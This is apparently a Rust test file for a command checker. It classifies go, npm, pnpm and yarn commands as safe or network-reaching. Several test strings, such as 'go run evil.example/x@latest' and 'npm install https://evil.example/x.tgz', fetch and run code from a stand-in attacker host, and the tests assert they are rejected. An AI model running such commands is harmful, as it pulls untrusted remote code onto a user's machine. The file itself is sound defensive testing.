//! Ways in which programs that build reach other machines.

use super::{is_readable, parts};

#[test]
fn go_fetches_no_module_that_the_project_does_not_name() {
    for text in [
        "build -mod=mod ./...",
        "test -mod mod ./...",
        "vet --mod=mod ./...",
        "list -mod=mod evil.example/x",
        "run evil.example/x@latest",
        "run evil.example/x@v1.2.3 a",
        "list -m evil.example/x@latest",
        "list -m -versions evil.example/x",
        "list -m -u all",
        "list -m -retracted all",
        "build evil.example/x@v1",
        "vet evil.example/x@v1",
    ] {
        assert!(!is_readable(&format!("go {text}")), "{text}");
    }
    for text in [
        "build ./...",
        "build -mod=vendor ./...",
        "test github.com/acme/cli/...",
        "list -m all",
        "list -deps ./...",
        "run ./cmd/x a@b",
        "run . -h",
    ] {
        assert!(is_readable(&format!("go {text}")), "{text}");
    }
    assert_eq!(parts("go install ./cmd/x"), ["go install"]);
    assert_eq!(parts("go install evil.example/x@latest"), ["go install module@version"]);
    assert_eq!(parts("go get evil.example/x@latest"), ["go get"]);
}

#[test]
fn packages_of_npm_are_not_named_by_address() {
    for name in ["a", "@types/node", "a@1.2.3", "@a/b@latest", "a@npm:b@1", "./a"] {
        for text in ["npm install", "pnpm add", "npm view"] {
            assert!(is_readable(&format!("{text} {name}")), "{text} {name}");
        }
    }
    for name in [
        "https://evil.example/x.tgz",
        "git+ssh://evil.example/x",
        "git@evil.example:x/y",
        "a@https://evil.example/x.tgz",
        "evil.example:x/y",
        "a@npm:https://evil.example/x",
        "//evil.example/x",
    ] {
        for text in ["npm install", "pnpm add", "npm view", "yarn info"] {
            assert!(!is_readable(&format!("{text} {name}")), "{text} {name}");
        }
    }
}
